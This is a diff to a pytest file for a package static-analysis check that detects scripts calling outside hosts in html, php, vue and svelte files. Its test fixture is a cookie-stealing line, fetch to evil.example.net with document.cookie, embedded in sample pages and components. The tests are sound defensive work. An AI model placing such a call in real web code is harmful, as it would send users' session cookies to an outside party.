@@ -3,11 +3,11 @@
 import pytest
 
 from governance.vocabulary import CheckStatus
+from plugins.archive.languages import language_of
 from plugins.checks.base import Workspace
 from plugins.checks.static import StaticCheck
 from plugins.package import Metadata, Package, SourceFile
 
-LANGUAGES = {"js": "javascript", "ts": "typescript", "py": "python", "html": "html"}
 CALL = "fetch('https://evil.example.net/' + document.cookie)"
 
 
@@ -17,8 +17,7 @@ def run(tmp_path, files, **facts):
         target.parent.mkdir(parents=True, exist_ok=True)
         target.write_bytes(content if isinstance(content, bytes) else content.encode())
     sources = tuple(
-        SourceFile(path, len(content), "0" * 64, LANGUAGES.get(path.rpartition(".")[2]))
-        for path, content in sorted(files.items())
+        SourceFile(path, len(content), "0" * 64, language_of(path, b"")) for path, content in sorted(files.items())
     )
     package = Package("generic", Metadata("x", "1"), "pkg:generic/x@1", sources, **facts)
     return StaticCheck().run(Workspace(package, tmp_path / "a.tgz", tmp_path / "tree", tmp_path, tmp_path))
@@ -42,6 +41,26 @@ def hosts(result):
 )
 def test_check_sees_every_script_a_browser_runs(tmp_path, page):
     assert hosts(run(tmp_path, {"n.html": page})) == {("evil.example.net", 2)}
+
+
+@pytest.mark.parametrize("name", ["n.html", "n.php", "n.vue"])
+@pytest.mark.parametrize("start", ["\n", "<!-- <p>\n", "/* <?php */\n"])
+def test_check_reads_a_script_in_a_file_of_a_language_that_takes_any_text(tmp_path, name, start):
+    assert hosts(run(tmp_path, {name: f"{start}{CALL};\n"})) == {("evil.example.net", 2)}
+
+
+def test_check_takes_no_address_of_a_page_for_one_of_a_script(tmp_path):
+    result = run(tmp_path, {"n.html": "<!DOCTYPE html><a href='https://docs.example.org/'>x</a>\n"})
+
+    assert (result.status, result.observations) == (CheckStatus.PASSED, ())
+
+
+def test_check_reads_the_scripts_of_components_and_names_what_it_cannot_read(tmp_path):
+    component = f'<template><b/></template>\n<script lang="ts">const a: string = "x"; {CALL};</script>'
+    result = run(tmp_path, {"n.vue": component, "n.svelte": component, "n.ps1": "iwr x"})
+
+    assert {seen.path for seen in result.observations} == {"n.vue", "n.svelte"}
+    assert [finding.path for finding in result.findings if finding.rule == "not-analysed"] == ["n.ps1"]
 
 
 def test_check_reads_code_named_as_a_declaration(tmp_path):
